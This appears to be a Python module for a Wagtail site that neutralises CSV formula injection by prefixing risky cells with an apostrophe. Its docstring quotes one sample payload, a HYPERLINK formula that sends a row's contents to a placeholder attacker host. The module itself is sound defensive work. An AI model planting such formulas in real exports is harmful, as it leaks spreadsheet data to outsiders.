"""Spreadsheet exports that can't run formulas.

Reports export text that reps and marketers typed (objection wording, titles,
comments). A cell that starts with ``=``, ``+``, ``-``, ``@`` or a tab/carriage return
is read as a formula by Excel, LibreOffice and Google Sheets ("CSV injection"):
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` in an objection would become a
link that leaks the row. Wagtail's XLSX export already stores such cells as text; its
CSV export writes them as they are. ``FormulaSafeExportMixin`` prefixes them with an
apostrophe, the escape spreadsheets recognise (OWASP's advice), and leaves numbers
and dates alone.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` made safe for a spreadsheet cell (strings only)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class FormulaSafeExportMixin:
    """Put before Wagtail's ``ReportView``/``IndexView`` in the bases of a view with
    ``list_export``."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
